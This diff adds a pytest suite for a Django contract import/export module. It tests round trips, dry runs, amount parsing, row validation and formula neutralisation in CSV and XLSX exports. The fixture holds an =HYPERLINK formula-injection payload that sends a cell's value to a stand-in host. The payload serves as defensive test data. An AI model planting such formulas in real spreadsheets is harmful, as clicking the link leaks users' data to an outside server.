@@ -1,0 +1,342 @@
+import csv
+import io
+from decimal import Decimal
+
+import openpyxl
+import pytest
+import tablib
+from django.urls import reverse
+
+from contracts.imports import (
+    InvalidValue,
+    RowStatus,
+    export_contract_file,
+    import_contract_file,
+    parse_amount,
+)
+from contracts.journal import AuditAction, AuditEvent
+from contracts.models import FundingLine, Milestone, YearlyAllocation
+from contracts.resources import neutralise_cell, render_dataset, restore_cell
+from contracts.selectors import contract_snapshot
+
+from .factories import ContractFactory, FundingLineFactory, MilestoneFactory
+
+pytestmark = pytest.mark.django_db
+
+D = Decimal
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez")'
+
+
+@pytest.fixture
+def contract(db):
+    """A draft contract whose wording holds formula-looking text."""
+    contract = ContractFactory(with_lines=True)
+    axis = contract.axes.get(number=1)
+    FundingLineFactory(
+        axis=axis,
+        code="1.9",
+        label=FORMULA,
+        scheme="IPA",
+        details={"students": 1, "beneficiary_kind": "HEALTH_ESTABLISHMENT"},
+        amounts={2025: D("35000.00"), 2026: D("35000.00")},
+    )
+    MilestoneFactory(axis=axis, title="+33 recrutements", indicator_label="@cellule")
+    return contract
+
+
+def export(contract, user, kind, file_format) -> bytes:
+    return export_contract_file(
+        actor=user, contract=contract, kind=kind, file_format=file_format
+    ).content
+
+
+def run(contract, user, kind, file_format, content, *, dry_run):
+    return import_contract_file(
+        actor=user,
+        contract=contract,
+        kind=kind,
+        file_format=file_format,
+        content=content,
+        dry_run=dry_run,
+    )
+
+
+def csv_file(rows: list[dict]) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
+    writer.writeheader()
+    writer.writerows(rows)
+    return buffer.getvalue().encode("utf-8")
+
+
+def csv_rows(content: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def new_line(contract, **overrides) -> dict:
+    row = {
+        "axe": "2",
+        "code": "2.9",
+        "dispositif": "OTHER",
+        "libelle": "Maison des internes",
+        "beneficiaire": contract.carrier_establishment.finess,
+        "parametres": "",
+        "date_limite_consommation": "",
+        "montant_2025": "12 000,50",
+        "montant_2026": "12000.50",
+        "montant_2027": "",
+    }
+    row.update(overrides)
+    return row
+
+
+class TestRoundTrip:
+    @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+    @pytest.mark.parametrize("kind", ["lines", "milestones"])
+    def test_export_then_import_changes_nothing(self, contract, manager, kind, file_format):
+        before = contract_snapshot(contract)
+        content = export(contract, manager, kind, file_format)
+        events = AuditEvent.objects.count()
+        report = run(contract, manager, kind, file_format, content, dry_run=False)
+        assert report.is_valid, report.errors
+        assert report.counts[RowStatus.UNCHANGED] == len(report.rows) > 0
+        assert contract_snapshot(contract) == before
+        # Only the import itself is journaled.
+        assert AuditEvent.objects.count() == events + 1
+        assert AuditEvent.objects.last().action == AuditAction.IMPORT
+
+
+class TestDryRun:
+    def test_reports_exactly_what_the_wet_run_writes(self, contract, manager):
+        rows = csv_rows(export(contract, manager, "lines", "csv"))
+        rows[0]["montant_2025"] = "25 000,00"  # updated
+        rows[1]["libelle"] = "Nouveau libellé"  # updated
+        rows.append(new_line(contract))  # created
+        content = csv_file(rows)
+        before, events = contract_snapshot(contract), AuditEvent.objects.count()
+
+        dry = run(contract, manager, "lines", "csv", content, dry_run=True)
+        assert contract_snapshot(contract) == before
+        assert AuditEvent.objects.count() == events
+
+        wet = run(contract, manager, "lines", "csv", content, dry_run=False)
+        statuses = [(row.line_number, row.status, row.changes) for row in wet.rows]
+        assert [(row.line_number, row.status, row.changes) for row in dry.rows] == statuses
+        assert (
+            dry.counts
+            == wet.counts
+            == {
+                RowStatus.CREATED: 1,
+                RowStatus.UPDATED: 2,
+                RowStatus.UNCHANGED: 1,
+                RowStatus.ERROR: 0,
+            }
+        )
+        assert (dry.written, wet.written) == (False, True)
+        # One event per service call, plus the import.
+        assert AuditEvent.objects.count() == events + 3 + 1
+        created = FundingLine.objects.get(code="2.9")
+        assert dict(created.allocations.values_list("year", "allocated_amount")) == {
+            2025: D("12000.50"),
+            2026: D("12000.50"),
+        }
+
+
+class TestBadRows:
+    @pytest.mark.parametrize(
+        ("overrides", "expected"),
+        [
+            ({"axe": "9"}, "axe 9 inconnu"),
+            (
+                {"beneficiaire": "Clinique imaginaire"},
+                "bénéficiaire « Clinique imaginaire » inconnu",
+            ),
+            ({"montant_2025": "douze mille"}, "n'est pas un montant décimal"),
+            ({"montant_2025": "12,345"}, "plus de deux décimales"),
+            ({"montant_2025": "100.001"}, "plus de deux décimales"),
+            ({"montant_2025": "-5"}, "négatif"),
+            ({"dispositif": "XYZ"}, "dispositif « XYZ » inconnu"),
+            (
+                {"dispositif": "IPA", "parametres": '{"students": 1}', "montant_2025": "70000.01"},
+                "70",
+            ),
+            (
+                {"dispositif": "CLACT", "parametres": '{"actions": 6}', "montant_2025": "100"},
+                "6 actions",
+            ),
+            ({"montant_2025": "200 000,00"}, "enveloppe"),
+            ({"parametres": "{pas du json"}, "JSON"),
+        ],
+    )
+    def test_are_named_with_their_line_number_and_rule(
+        self, contract, manager, overrides, expected
+    ):
+        rows = csv_rows(export(contract, manager, "lines", "csv"))
+        rows.append(new_line(contract, **overrides))
+        before, events = contract_snapshot(contract), AuditEvent.objects.count()
+        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=False)
+        assert not report.is_valid
+        line_number = len(rows) + 1  # header is line 1
+        assert any(
+            error.startswith(f"Ligne {line_number} :") and expected in error
+            for error in report.errors
+        ), report.errors
+        assert contract_snapshot(contract) == before
+        assert AuditEvent.objects.count() == events
+
+    def test_a_year_outside_the_contract_is_refused(self, contract, manager):
+        rows = [new_line(contract, montant_2031="100")]
+        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=True)
+        assert report.errors == ["Ligne 2 : année 2031 hors de la période du contrat (2025–2027)."]
+
+    def test_a_good_row_is_not_written_when_another_is_wrong(self, contract, manager):
+        rows = [new_line(contract), new_line(contract, code="2.10", axe="7")]
+        lines, allocations = FundingLine.objects.count(), YearlyAllocation.objects.count()
+        report = run(contract, manager, "lines", "csv", csv_file(rows), dry_run=False)
+        assert [row.status for row in report.rows] == [RowStatus.CREATED, RowStatus.ERROR]
+        assert (FundingLine.objects.count(), YearlyAllocation.objects.count()) == (
+            lines,
+            allocations,
+        )
+        assert not report.written
+
+    def test_a_milestone_outside_the_period_is_refused(self, contract, manager):
+        rows = csv_rows(export(contract, manager, "milestones", "csv"))
+        rows.append({**rows[0], "intitule": "Trop tard", "echeance": "2030-01-01"})
+        milestones = Milestone.objects.count()
+        report = run(contract, manager, "milestones", "csv", csv_file(rows), dry_run=False)
+        assert any("période du contrat" in error for error in report.errors), report.errors
+        assert Milestone.objects.count() == milestones
+
+    def test_a_signed_contract_is_refused_as_a_whole(self, manager):
+        signed = ContractFactory(with_lines=True, signed=True)
+        content = export(signed, manager, "lines", "csv")
+        report = run(signed, manager, "lines", "csv", content, dry_run=True)
+        assert "avenant" in report.errors[0]
+
+
+class TestAmounts:
+    @pytest.mark.parametrize(
+        ("text", "amount"),
+        [
+            ("12000.50", D("12000.50")),
+            ("12 000,50", D("12000.50")),
+            ("12\u202f000,50 €", D("12000.50")),
+            ("12.000,50", D("12000.50")),
+            ("12000", D("12000.00")),
+            (12000, D("12000.00")),
+            ("", None),
+        ],
+    )
+    def test_read_french_and_plain_forms(self, text, amount):
+        assert parse_amount(text) == amount
+
+    def test_refuse_text_that_is_not_a_number(self):
+        with pytest.raises(InvalidValue):
+            parse_amount("1e3")
+
+
+class TestFormulaNeutralisation:
+    @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+    def test_quotes_every_dangerous_start_and_restores_it(self, prefix):
+        assert neutralise_cell(f"{prefix}1+1") == f"'{prefix}1+1"
+        assert restore_cell(neutralise_cell(f"{prefix}1+1")) == f"{prefix}1+1"
+        assert neutralise_cell("Cellule de recrutement") == "Cellule de recrutement"
+
+    def test_csv_export_has_no_cell_starting_with_a_formula(self, contract, manager):
+        for kind in ("lines", "milestones"):
+            content = export(contract, manager, kind, "csv").decode("utf-8-sig")
+            cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+            assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        lines = csv_rows(export(contract, manager, "lines", "csv"))
+        assert "'" + FORMULA in [row["libelle"] for row in lines]
+
+    def test_xlsx_export_holds_text_never_formulas(self, contract, manager):
+        for kind in ("lines", "milestones"):
+            content = export(contract, manager, kind, "xlsx")
+            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", cell.coordinate
+                    if isinstance(cell.value, str):
+                        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+        sheet = openpyxl.load_workbook(
+            io.BytesIO(export(contract, manager, "lines", "xlsx"))
+        ).active
+        assert "'" + FORMULA in [cell.value for cell in sheet["D"]]
+
+    def test_neutralises_what_the_library_would_not(self):
+        # import-export alone only strips a leading "=", and only with its setting on.
+        dataset = tablib.Dataset(["@SUM(A1)", "-2+3"], headers=["a", "b"])
+        content = render_dataset(dataset, "csv").decode("utf-8-sig")
+        assert "@SUM" in content  # render alone does not protect: the export path does
+        from contracts.resources import neutralise_dataset
+
+        safe = render_dataset(neutralise_dataset(dataset), "csv").decode("utf-8-sig")
+        assert "'@SUM(A1)" in safe and "'-2+3" in safe
+
+
+class TestExportJournal:
+    def test_records_one_export_event_per_file(self, contract, manager):
+        events = AuditEvent.objects.count()
+        export(contract, manager, "lines", "csv")
+        export(contract, manager, "milestones", "xlsx")
+        exported = AuditEvent.objects.filter(action=AuditAction.EXPORT).order_by("sequence")
+        assert AuditEvent.objects.count() == events + 2
+        assert [event.changes["format"] for event in exported] == ["csv", "xlsx"]
+
+
+class TestImportView:
+    def test_dry_run_then_wet_run_through_the_page(self, client, contract, manager):
+        from django.core.files.uploadedfile import SimpleUploadedFile
+
+        client.force_login(manager)
+        url = reverse("contracts:import", args=[contract.pk])
+        content = csv_file([new_line(contract)])
+        response = client.post(
+            url, {"kind": "lines", "file": SimpleUploadedFile("lignes.csv", content)}
+        )
+        assert response.status_code == 200
+        assert "Simulation" in response.content.decode()
+        assert not FundingLine.objects.filter(code="2.9").exists()
+        response = client.post(
+            url,
+            {
+                "kind": "lines",
+                "file": SimpleUploadedFile("lignes.csv", content),
+                "wet_run": "on",
+            },
+        )
+        assert response.status_code == 200
+        assert FundingLine.objects.filter(code="2.9").exists()
+
+
+class TestImportCommand:
+    def test_defaults_to_a_dry_run_and_writes_with_wet_run(self, contract, manager, tmp_path):
+        from django.core.management import call_command
+
+        path = tmp_path / "lignes.csv"
+        path.write_bytes(csv_file([new_line(contract)]))
+        args = [contract.reference, str(path), "--username", manager.username]
+        out = io.StringIO()
+        call_command("import_contract_data", *args, stdout=out)
+        assert "simulation" in out.getvalue()
+        assert not FundingLine.objects.filter(code="2.9").exists()
+        call_command("import_contract_data", *args, "--wet-run", stdout=io.StringIO())
+        assert FundingLine.objects.filter(code="2.9").exists()
+
+    def test_fails_naming_the_bad_line(self, contract, manager, tmp_path):
+        from django.core.management import CommandError, call_command
+
+        path = tmp_path / "lignes.csv"
+        path.write_bytes(csv_file([new_line(contract, axe="8")]))
+        with pytest.raises(CommandError, match="Ligne 2 : axe 8 inconnu"):
+            call_command(
+                "import_contract_data",
+                contract.reference,
+                str(path),
+                "--username",
+                manager.username,
+                "--wet-run",
+                stdout=io.StringIO(),
+            )
